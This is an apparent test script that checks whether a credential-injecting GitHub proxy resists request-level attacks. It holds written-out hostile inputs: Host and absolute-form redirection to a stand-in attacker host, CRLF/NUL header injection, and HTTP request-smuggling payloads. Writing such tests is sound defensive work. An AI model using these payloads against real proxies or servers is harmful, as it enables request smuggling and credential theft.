# 24-proxy-attacks: the request-level attacks of docs/threat-model.md. Every case asserts on
# what the upstreams actually received (fake API log, recording attacker),
# not only on the status the client saw.
. "$(dirname "$0")/../lib/common.sh"
. "$TOP/tests/lib/fakegit.sh"
. "$TOP/tests/lib/proxy.sh"
px_isolate "$@"
# The proxy core is under test here: use the small fixture addon (22/23 test the shipped ones).
PX_ADDONS="[$FX/addons/inject.lua]"

fx_all || { fail "fixtures start"; exit 1; }
fx_recorder evil --cert "$PKI/evil.test.pem" --key "$PKI/evil.test.key"; EVIL_PORT=$REC_PORT
fx_recorder plain; PLAIN_PORT=$REC_PORT
PX_RESOLVE="  \"evil.test:443\": \"127.0.0.1:$EVIL_PORT\"
  \"evil.test:80\": \"127.0.0.1:$PLAIN_PORT\"
  \"github.com:80\": \"127.0.0.1:$PLAIN_PORT\"
  \"api.github.com:80\": \"127.0.0.1:$PLAIN_PORT\""
px_config && px_start && px_sandbox || { fail "proxy start"; exit 1; }
ok "proxy start"
R=$T/r; mkdir -p "$R"
n=0
# req NAME HOST 'bytes' [pclient args]: runs one intercepted exchange into $R/NAME
req() { local name=$1 h=$2 b=$3; shift 3; pci "$h" "$b" --responses 1 "$@" >"$R/$name" 2>&1; }
H='Host: api.github.com'

# Baseline: the same exchange shape works, so refusals below are meaningful.
req base api.github.com "GET /user?m=base HTTP/1.1\r\n$H\r\nConnection: close\r\n\r\n"
check "baseline 200" st_in "$R/base" 200
check "baseline leaf is for the canonical host" grep -q "tls: ok san=api.github.com" "$R/base"
check "baseline token injected" test "$(fx_api_q "r['path']=='/user?m=base' and h.get('authorization') in (['token $GH_TOKEN_REAL'],['Bearer $GH_TOKEN_REAL'])")" = 1

# --- one authority per tunnel: Host / absolute-form disagreeing with CONNECT -> 421, nothing forwarded
req host-evil api.github.com "GET /user?m=hostevil HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
check "Host: evil.test -> 421" st_in "$R/host-evil" 421
check "Host: evil.test not forwarded anywhere" bash -c "! grep -q m=hostevil $T/api.log && ! grep -q m=hostevil $T/rec-evil.bytes $T/rec-plain.bytes"
req host-port api.github.com "GET /user?m=hostport HTTP/1.1\r\nHost: api.github.com:8443\r\nConnection: close\r\n\r\n"
check "Host with other port -> 421" st_in "$R/host-port" 421
check "other-port Host not forwarded" bash -c "! grep -q m=hostport $T/api.log"
req host-sib api.github.com "GET /user?m=hostsib HTTP/1.1\r\nHost: github.com\r\nConnection: close\r\n\r\n"
check "Host: sibling github.com -> 421" st_in "$R/host-sib" 421
req host-two api.github.com "GET /user?m=hosttwo HTTP/1.1\r\n$H\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
check "two Host headers refused" st_in "$R/host-two" 421 400
check "two Host headers not forwarded" bash -c "! grep -q m=hosttwo $T/api.log $T/rec-evil.bytes"
req abs-evil api.github.com "GET https://evil.test/user?m=absevil HTTP/1.1\r\n$H\r\nConnection: close\r\n\r\n"
check "absolute-form to evil.test -> 421" st_in "$R/abs-evil" 421
check "absolute-form not forwarded" bash -c "! grep -q m=absevil $T/api.log $T/rec-evil.bytes"
req abs-http api.github.com "GET http://api.github.com/user?m=abshttp HTTP/1.1\r\n$H\r\nConnection: close\r\n\r\n"
check "absolute-form http:// inside TLS tunnel refused" st_in "$R/abs-http" 421 400
check "http:// absolute-form never got a token" bash -c "! grep -q m=abshttp $T/rec-plain.bytes && [ \$(grep -c 'm=abshttp' $T/api.log) = 0 ]"
req host-spell api.github.com "GET /user?m=hostspell HTTP/1.1\r\nHost: API.GitHub.COM.\r\nConnection: close\r\n\r\n"
check "Host spelled differently but same canonical: 200" st_in "$R/host-spell" 200
check "upstream Host rewritten to canonical" test "$(fx_api_q "r['path']=='/user?m=hostspell' and h.get('host') in (['api.github.com'],['api.github.com:443'])")" = 1
req conn-in api.github.com "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"
check "CONNECT inside the tunnel refused" st_in "$R/conn-in" 400 405 421
check "CONNECT inside the tunnel reached nothing" rec_noconn evil

# --- exactly one credential: client Authorization replaced, Proxy-Authorization never forwarded
req dupauth api.github.com "GET /user?m=dupauth HTTP/1.1\r\n$H\r\nAuthorization: token client-one\r\nauthorization: Bearer client-two\r\nAUTHORIZATION: Basic Y2xpZW50OnRocmVl\r\nConnection: close\r\n\r\n"
check "client Authorization headers: 200" st_in "$R/dupauth" 200
check "exactly one Authorization upstream, the real one" test "$(fx_api_q "r['path']=='/user?m=dupauth' and h.get('authorization') in (['token $GH_TOKEN_REAL'],['Bearer $GH_TOKEN_REAL'])")" = 1
check "client credentials never upstream" bash -c "! grep -q 'client-one\|client-two\|Y2xpZW50OnRocmVl' $T/api.log"
req inpauth api.github.com "GET /user?m=inpauth HTTP/1.1\r\n$H\r\nProxy-Authorization: Basic aW5uZXI6cHJveHlzZWNyZXQ=\r\nConnection: close\r\n\r\n"
check "Proxy-Authorization inside tunnel not forwarded" bash -c "grep -q m=inpauth $T/api.log && ! grep -q 'aW5uZXI6cHJveHlzZWNyZXQ=' $T/api.log"
check "the CONNECT's proxy credential never upstream" bash -c "! grep -qF -- '$SECRET' $T/api.log $T/rec-evil.bytes $T/rec-plain.bytes"

# --- CR/LF/NUL and framing oddities in heads: 400, never forwarded
bad() { # name 'bytes'
	req "$1" api.github.com "$2"
	check "$1 refused with 400" st_in "$R/$1" 400
	check "$1 not forwarded" bash -c "! grep -q 'm=$1' $T/api.log"
}
bad crinval "GET /user?m=crinval HTTP/1.1\r\n$H\r\nX-A: a\rInjected: 1\r\n\r\n"
bad lfinval "GET /user?m=lfinval HTTP/1.1\r\n$H\r\nX-A: a\nInjected: 1\r\n\r\n"
bad bareLF "GET /user?m=bareLF HTTP/1.1\n$H\nX-A: b\n\n"
bad nulinval "GET /user?m=nulinval HTTP/1.1\r\n$H\r\nX-A: a\x00b\r\n\r\n"
bad obsfold "GET /user?m=obsfold HTTP/1.1\r\n$H\r\nX-A: a\r\n Authorization: token x\r\n\r\n"
bad spcolon "GET /user?m=spcolon HTTP/1.1\r\n$H\r\nX-A : a\r\n\r\n"
bad crinurl "GET /user?m=crinurl\rX HTTP/1.1\r\n$H\r\n\r\n"
bad badver "GET /user?m=badver HTTP/1.2x\r\n$H\r\n\r\n"

# --- smuggling: the smuggled request never reaches the upstream
SM="GET /smuggled?m=SMUG HTTP/1.1\r\n$H\r\n\r\n"
smug() { # name 'head' 'body'
	req "$1" api.github.com "POST /repos/o/r/pulls?m=$1 HTTP/1.1\r\n$H\r\n$2\r\n$3"
	check "$1 refused with 400" st_in "$R/$1" 400
	check "$1 not forwarded" bash -c "! grep -q 'm=$1' $T/api.log"
	check "$1 smuggled request never upstream" bash -c "! grep -q 'smuggled' $T/api.log"
}
smug clte "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n" "0\r\n\r\n$SM"
smug tecl "Transfer-Encoding: chunked\r\nContent-Length: 60\r\n" "0\r\n\r\n$SM"
smug twocl "Content-Length: 0\r\nContent-Length: 52\r\n" "$SM"
smug clcomma "Content-Length: 0, 52\r\n" "$SM"
smug xchunked "Transfer-Encoding: xchunked\r\n" "0\r\n\r\n$SM"
smug chunkedid "Transfer-Encoding: chunked, identity\r\n" "0\r\n\r\n$SM"
smug tetwice "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n" "0\r\n\r\n$SM"
smug tespace "Transfer-Encoding : chunked\r\n" "0\r\n\r\n$SM"
smug clplus "Content-Length: +5\r\n" "hello$SM"
smug clneg "Content-Length: -1\r\n" "$SM"
# chunk size junk: the head may already be upstream, but no smuggled request may follow
chunkjunk() { # name 'body'
	req "$1" api.github.com "POST /repos/o/r/pulls?m=$1 HTTP/1.1\r\n$H\r\nTransfer-Encoding: chunked\r\n\r\n$2"
	check "$1 answered 400 or connection closed" st_in "$R/$1" 400 502 ""
	check "$1 smuggled request never upstream" bash -c "! grep -q 'smuggled' $T/api.log"
}
chunkjunk cjunk "5x\r\nhello\r\n0\r\n\r\n$SM"
chunkjunk chex "0x5\r\nhello\r\n0\r\n\r\n$SM"
chunkjunk cover "ffffffffffffffffffff\r\nhello\r\n0\r\n\r\n$SM"
chunkjunk cneg "-5\r\nhello\r\n0\r\n\r\n$SM"
chunkjunk cnolf "5\rhello\r\n0\r\n\r\n$SM"
# A well-formed chunked POST is re-framed and arrives intact.
req chunkok api.github.com "POST /repos/e2e-org/repo/pulls?m=chunkok HTTP/1.1\r\n$H\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n4\r\n{\"a\"\r\n3\r\n:1}\r\n0\r\n\r\n"
check "well-formed chunked POST: 201" st_in "$R/chunkok" 201
check "re-framed body arrived intact" test "$(fx_api_q "r['path']=='/repos/e2e-org/repo/pulls?m=chunkok' and r['body']=='{\"a\":1}'")" = 1
# Pipelined requests: both answered in order, both with the token.
req pipe api.github.com "GET /user?m=pipe1 HTTP/1.1\r\n$H\r\n\r\nGET /repos/e2e-org/repo?m=pipe2 HTTP/1.1\r\n$H\r\nConnection: close\r\n\r\n" --responses 2
check "pipelined: two answers in order" bash -c "grep -c '^HTTP/1.1 200' $R/pipe | grep -qx 2 && grep -n 'e2e-octocat\|e2e-org/repo' $R/pipe | head -1 | grep -q octocat"
check "pipelined: both injected" test "$(fx_api_q "'m=pipe' in r['path'] and r['auth_ok']")" = 2

# --- redirects relayed, not followed; the follow-up to evil.test carries no token
req redir api.github.com "GET /redirect-evil HTTP/1.1\r\n$H\r\nConnection: close\r\n\r\n"
check "302 relayed to the client" st_in "$R/redir" 302
check "Location relayed unchanged" grep -qi '^Location: https://evil.test/stolen' "$R/redir"
check "proxy did not follow the redirect" rec_noconn evil
cat "$PX_CA" "$PKI/ca.pem" >"$T/both-ca.pem"
curl -s -L --max-redirs 3 --cacert "$T/both-ca.pem" --proxy "http://127.0.0.1:$PX_PORT" \
	--proxy-user "sb-e2e:$SECRET" -H 'Authorization: token dummy-follow' \
	https://api.github.com/redirect-evil >"$R/follow" 2>&1
check "client's own follow-up reached evil.test" grep -q "GET /stolen?x=1" "$T/rec-evil.bytes"
check "evil.test got no token" rec_clean evil
check "evil.test got no proxy secret" bash -c "! grep -qF -- '$SECRET' $T/rec-evil.bytes"

# --- plaintext: never a credential
curl -s --proxy "http://127.0.0.1:$PX_PORT" --proxy-user "sb-e2e:$SECRET" \
	"http://github.com/e2e-org/repo.git/info/refs?service=git-upload-pack&m=plain" >"$R/plain" 2>&1
check "plain http://github.com forwarded without credential" bash -c "grep -q 'm=plain' $T/rec-plain.bytes"
check "plain: no token" rec_clean plain
check "plain: no Authorization header at all" bash -c "! grep -qi '^authorization:' $T/rec-plain.bytes"
check "plain: Proxy-Authorization not forwarded" bash -c "! grep -qi '^proxy-authorization:' $T/rec-plain.bytes && ! grep -qF -- '$SECRET' $T/rec-plain.bytes"
curl -s --proxy "http://127.0.0.1:$PX_PORT" --proxy-user "sb-e2e:$SECRET" \
	"http://api.github.com/user?m=plainapi" >"$R/plainapi" 2>&1
check "plain http://api.github.com: no token" rec_clean plain
check "never reached the real API over plaintext" bash -c "! grep -q m=plainapi $T/api.log"

check "evil.test never saw a token in any case" rec_clean evil
check "plain recorder never saw a token in any case" rec_clean plain
check "proxy alive after all attacks" px_alive
check "no token in proxy logs" bash -c "! grep -qF -- '$GH_TOKEN_REAL' $PX_DIR/proxy.log $PX_DIR/stderr $PX_DIR/audit.jsonl"
check "no sanitizer report from the proxy" px_san_clean
